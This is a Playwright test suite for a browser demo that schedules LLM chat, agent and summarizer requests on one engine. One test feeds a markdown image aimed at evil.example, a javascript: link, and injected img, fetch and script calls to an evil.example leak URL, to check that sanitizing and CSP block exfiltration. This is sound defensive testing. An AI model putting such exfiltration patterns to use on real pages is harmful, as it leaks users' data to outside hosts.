import { test as base, expect as baseExpect, type Page } from '@playwright/test';

/** The engine runs in real time: on a busy machine everything takes a while. */
const expect = baseExpect.configure({ timeout: 20_000 });

/** Every test also fails on an error in the page or on its console. */
const test = base.extend<{ opened: Page }>({
  opened: async ({ page }, use) => {
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(error.message));
    page.on('console', (message) => {
      if (message.type() === 'error') errors.push(message.text());
    });
    await page.goto('/?s=agent&load=0.8&b=fcfs'); // few come: what the reader does is soon done
    await use(page);
    expect(errors).toEqual([]);
  },
});

const panel = (page: Page, name: string) => page.getByRole('region', { name, exact: true });
const queueRows = (page: Page, app: string) => page.locator(`.queue tbody[data-app="${app}"]`);

/** Parts summarized so far, over all documents. */
const partsDone = (page: Page) =>
  panel(page, 'Summarizer')
    .getByRole('progressbar')
    .evaluateAll((bars) =>
      bars.reduce((sum, bar) => sum + Number(bar.getAttribute('aria-valuenow')), 0),
    );

/** Sends the visitors away and pauses the summarizer. */
async function quiet(page: Page): Promise<void> {
  await page.getByRole('switch', { name: 'Demo traffic' }).uncheck();
  await panel(page, 'Summarizer').getByRole('button', { name: 'Pause' }).click();
  await expect(page.getByText('No request is live.')).toBeVisible();
}

test('three apps share the engine as soon as the page is open', async ({ opened: page }) => {
  test.slow();
  for (const app of ['chat', 'agent', 'summarizer']) {
    await expect(queueRows(page, app).first()).toBeVisible();
  }
  // One badge for each timeline, and no more.
  await expect(page.locator('.simulated-mark:visible')).toHaveCount(2);
  await expect(panel(page, 'Chat').locator('.message.assistant .markdown').first()).toBeVisible();
  await expect(panel(page, 'Agent').locator('.step').first()).toBeVisible();
  await expect.poll(() => partsDone(page)).toBeGreaterThan(0);
});

test('a message streams its answer, stops on demand and can be asked again', async ({
  opened: page,
}) => {
  const chat = panel(page, 'Chat');
  await chat.getByLabel('Message to the chat').fill('What is an SLO?');
  await chat.getByLabel('Message to the chat').press('Enter');
  const answer = chat.locator('.message.assistant').last();
  await expect(answer).toContainText('service-level');
  const early = (await answer.innerText()).length;
  await expect.poll(async () => (await answer.innerText()).length).toBeGreaterThan(early);
  await chat.getByRole('button', { name: 'Stop' }).click();
  await expect(answer).toContainText('stopped');
  await answer.getByRole('button', { name: 'Retry' }).click();
  await expect(answer).toContainText('service-level');
});

test('an Enter that an input method takes sends nothing', async ({ opened: page }) => {
  await quiet(page);
  const chat = panel(page, 'Chat');
  const composer = chat.getByLabel('Message to the chat');
  const tell = (key: string, keyCode: number) =>
    composer.evaluate(
      (field, init) =>
        field.dispatchEvent(
          new KeyboardEvent('keydown', { ...init, bubbles: true, cancelable: true }),
        ),
      { key, keyCode },
    );
  await composer.fill('すし');
  expect(await tell('Enter', 229)).toBe(true); // Safari's, after the composition
  await expect(composer).toHaveValue('すし');
  expect(await tell('Enter', 13)).toBe(false);
  await expect(composer).toHaveValue('');
  await expect(chat.locator('.message.user').last()).toContainText('すし');
});

test('nothing that an answer holds leaves the page by itself', async ({ page, baseURL }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.goto('/');
  await quiet(page);
  const chat = panel(page, 'Chat');
  const composer = chat.getByLabel('Message to the chat');
  // The script's answer quotes what it does not know.
  await composer.fill(
    '![a chart](https://evil.example/x.png?q=1) [web](https://example.org/) [run](javascript:alert(1))',
  );
  await composer.press('Enter');
  const answer = chat.locator('.message.assistant').last();
  await expect(answer).toContainText('You asked: “a chart web run”');
  await expect(answer).toContainText('in time');
  const link = answer.getByRole('link');
  await expect(link).toHaveCount(1);
  await expect(link).toHaveAttribute('href', 'https://example.org/');
  await expect(link).toHaveAttribute('rel', /noopener/);
  await expect(answer.locator('img')).toHaveCount(0);

  const own = new URL(baseURL ?? page.url()).origin;
  const strangers = asked.filter((url) => new URL(url).origin !== own);
  expect(strangers.filter((url) => !/^(data|blob):/.test(url))).toEqual([]);

  // And if something of it got through after all:
  const blocked = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const found: string[] = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          found.push(effectiveDirective);
          if (found.length === 3) resolve(found.sort());
        });
        const image = document.createElement('img');
        image.src = 'https://evil.example/leak.png';
        fetch('https://evil.example/leak').catch(() => {});
        const script = document.createElement('script');
        script.textContent = 'document.title = "run"';
        document.body.append(image, script);
      }),
  );
  expect(blocked).toEqual(['connect-src', 'img-src', 'script-src-elem']);
  await expect(page).toHaveTitle('Tempo');
});

test('the agent’s tools really run, and its program ends with a verdict', async ({
  opened: page,
}) => {
  await quiet(page);
  const agent = panel(page, 'Agent');
  await agent.getByLabel('Task for the agent').fill('What is 12*(3+4), and 23 kg in lb?');
  await agent.getByRole('button', { name: 'Run' }).click();
  await expect(agent.locator('.deadline')).toContainText(/s left/);
  const steps = agent.getByRole('list', { name: 'Steps of the agent' });
  await expect(steps.locator('.tool').filter({ hasText: 'calculator' })).toContainText('84');
  await expect(steps.locator('.tool').filter({ hasText: 'convert_units' })).toContainText(
    '50.7063',
  );
  await expect(agent.locator('.run-answer')).toContainText('84');
  await expect(agent.locator('.deadline')).toContainText(/In time|Late by/);
});

test('the summarizer takes up its work where a reload left it', async ({ opened: page }) => {
  const summarizer = panel(page, 'Summarizer');
  await expect.poll(() => partsDone(page)).toBeGreaterThan(2);
  await summarizer.getByRole('button', { name: 'Pause' }).click();
  await expect(summarizer.locator('.part.active')).toHaveCount(0);
  const before = await partsDone(page);
  await page.reload();
  await expect(summarizer.getByRole('button', { name: 'Resume' })).toBeVisible();
  expect(await partsDone(page)).toBe(before);
  await summarizer.getByRole('button', { name: 'Resume' }).click();
  await expect.poll(() => partsDone(page)).toBeGreaterThan(before);
});

test('a text of the reader’s own is summarized before the others', async ({ opened: page }) => {
  const summarizer = panel(page, 'Summarizer');
  await summarizer.getByRole('button', { name: 'Paste text' }).click();
  await summarizer.getByRole('button', { name: 'Summarize' }).click();
  await expect(summarizer.getByRole('alert')).toHaveText('There is no text in it.');
  await summarizer.getByLabel('Text to summarize').fill('A note on boats. Boats float on water.');
  await summarizer.getByRole('button', { name: 'Summarize' }).click();
  const own = summarizer.getByRole('listitem').filter({ hasText: 'A note on boats' }).first();
  await expect(own.getByText('Summary')).toBeVisible();
});

test('a policy takes over at once', async ({ opened: page }) => {
  test.slow();
  await expect(queueRows(page, 'summarizer').nth(1)).toBeVisible();
  await page.locator('.policy-switch').getByText('webllm', { exact: true }).click();
  const line = page.locator('.side-line').first();
  await expect(line).toHaveText('One request at a time, in order of arrival.');
  await expect(page.locator('.queue tbody.chosen')).toHaveCount(1);
  await expect(page.getByRole('row', { name: /^webllm/ })).toBeVisible();
  await page.getByLabel('Other policies').selectOption('edf');
  await expect(line).toContainText('Whatever is due first goes first');
  await page.getByRole('button', { name: 'Try one at a time' }).click();
  await page.getByRole('button', { name: 'Back to tempo' }).click();
  await expect(page.getByRole('radio', { name: 'tempo', exact: true })).toBeChecked();
});

test('bad input is answered with a sentence, and everything else goes on', async ({
  opened: page,
}) => {
  const chat = panel(page, 'Chat');
  await chat.getByLabel('Time to first token').fill('-5');
  await chat.getByLabel('Time to first token').press('Enter');
  await expect(chat.getByRole('alert')).toContainText('from 1 to');
  await chat.getByLabel('Time to first token').fill('900');
  await chat.getByLabel('Time to first token').press('Enter');
  await expect(chat.getByRole('alert')).toHaveCount(0);
  await expect(page.locator('.side-a .track-head[data-app="chat"]')).toContainText('of 900 ms');

  await chat.getByLabel('Message to the chat').fill('tide '.repeat(6000));
  await chat.getByLabel('Message to the chat').press('Enter');
  await expect(chat.getByRole('alert')).toContainText('Shorten');
  await expect(queueRows(page, 'summarizer').first()).toBeVisible();
});

test('without demo traffic the visitors leave and the reader is still served', async ({
  opened: page,
}) => {
  await quiet(page);
  const chat = panel(page, 'Chat');
  await chat.getByLabel('Message to the chat').fill('Who decides what runs next?');
  await chat.getByLabel('Message to the chat').press('Enter');
  const answer = chat.locator('.message.assistant').last();
  await expect(answer).toContainText(/first .*s then \d+ ms/);
  await expect(answer).toContainText(/in time|late/);
});

test('the timeline explains a step to the pointer and to the keyboard', async ({
  opened: page,
}) => {
  test.slow();
  const canvas = page.getByRole('img', { name: /^A, what runs live/ });
  await expect.poll(() => partsDone(page)).toBeGreaterThan(0);
  await canvas.focus();
  await canvas.press('ArrowLeft');
  const card = page.locator('.step-card');
  await expect(card).toContainText(/Step [\d,]+/);
  const number = await card.locator('b').innerText();
  await canvas.press('ArrowLeft');
  await expect(card.locator('b')).not.toHaveText(number);
  await canvas.press('Escape');
  await expect(card).toHaveCount(0);
  const box = await canvas.boundingBox();
  await page.mouse.move((box?.x ?? 0) + (box?.width ?? 0) * 0.8, (box?.y ?? 0) + 40);
  await expect(card).toContainText(/decoded|read/);
  await panel(page, 'Same requests, same GPU').locator('.pause').click();
  await expect(page.locator('.timeline .pause')).toHaveText('Go on');
});

test('another simulated device takes over without a reload', async ({ opened: page }) => {
  await page.getByRole('button', { name: /Laptop GPU/ }).click();
  await page.getByRole('radio', { name: /^Server GPU/ }).check();
  await page.getByRole('button', { name: 'Load' }).click();
  await expect(page.getByRole('button', { name: /^Server GPU/ })).toBeVisible();
  await expect(queueRows(page, 'summarizer').first()).toBeVisible();
});

test('where there is no GPU, the page says so and the simulated engine goes on', async ({
  page,
}) => {
  await page.addInitScript(() => {
    Object.defineProperty(navigator, 'gpu', { value: undefined });
  });
  await page.goto('/');
  await page.getByRole('button', { name: /Laptop GPU/ }).click();
  await expect(page.getByText(/has no WebGPU.*simulated engine runs without one/)).toBeVisible();
  await expect(page.getByRole('radio', { name: /Llama 3.2 1B,/ })).toBeDisabled();
});

test('a model that does not load leaves the simulated engine in its place', async ({ page }) => {
  test.slow();
  // The page believes in a GPU that the worker does not find.
  await page.addInitScript(() => {
    const adapter = { info: { vendor: 'a test' }, features: new Set(['shader-f16']) };
    Object.defineProperty(navigator, 'gpu', { value: { requestAdapter: async () => adapter } });
  });
  await page.goto('/?s=calm&load=0.5');
  await page.getByRole('button', { name: /Laptop GPU/ }).click();
  await page.getByRole('radio', { name: /SmolLM2 360M smallest/ }).check();
  await page.getByRole('button', { name: 'Load' }).click();
  await expect(page.locator('.strip')).toContainText('SmolLM2 360M did not load');
  // Its predecessor was unloaded for it: another was started, and what was open has ended.
  await expect(page.locator('.strip')).toContainText(
    'Laptop GPU, simulated, was started in its place; what was under way has ended.',
  );
  await page.getByRole('button', { name: 'Dismiss' }).click();
  await expect(page.getByRole('button', { name: /Laptop GPU/ })).toBeVisible();
  await expect(queueRows(page, 'chat').first()).toBeVisible();
  await expect(page.getByRole('alert')).toHaveCount(0);
});

test('the page has names for its controls and fits its screen', { tag: '@phone' }, async ({
  opened: page,
}) => {
  await expect(page.locator('.timeline')).toBeVisible();
  expect(await nameless(page)).toEqual([]);
  const tabs = page.getByRole('group', { name: 'Panel to show' });
  const names = (await tabs.count()) > 0 ? ['Agent', 'Summarizer', 'Queue', 'Numbers'] : [];
  for (const name of names) {
    await tabs.getByText(name).click();
    await expect(page.getByRole('region', { name, exact: true })).toBeVisible();
    expect(await nameless(page)).toEqual([]);
  }
  expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBe(0);
  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1);
});

test('the colours follow the choice, and a reload remembers it', async ({ opened: page }) => {
  const scheme = () => page.evaluate(() => getComputedStyle(document.documentElement).colorScheme);
  await page.getByLabel('Theme').selectOption('dark');
  await expect.poll(scheme).toBe('dark');
  await page.reload();
  await expect(page.locator('.timeline')).toBeVisible();
  await expect.poll(scheme).toBe('dark');
});

/** Controls without a name, images without a text, and ids used twice, as the markup of each. */
function nameless(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const named = (element: Element) => {
      const labels = element instanceof HTMLInputElement ? [...(element.labels ?? [])] : [];
      const parts = [
        element.getAttribute('aria-label'),
        element.getAttribute('aria-labelledby'),
        element.textContent,
        ...labels.map((label) => label.textContent),
        element.closest('label')?.textContent,
      ];
      return parts.some((part) => part?.trim());
    };
    // Each shadow tree has ids of its own.
    const roots: ParentNode[] = [document];
    for (const root of roots) {
      for (const { shadowRoot } of root.querySelectorAll('*'))
        if (shadowRoot) roots.push(shadowRoot);
    }
    return roots.flatMap((root) => {
      const controls = root.querySelectorAll(
        'button, input:not([hidden]), select, textarea, [role="img"], progress, [role="progressbar"]',
      );
      const ids = [...root.querySelectorAll('[id]')].map((element) => element.id);
      return [
        ...[...controls].filter((element) => !named(element)).map((element) => element.outerHTML),
        ...ids.filter((id, at) => ids.indexOf(id) !== at),
      ];
    });
  });
}
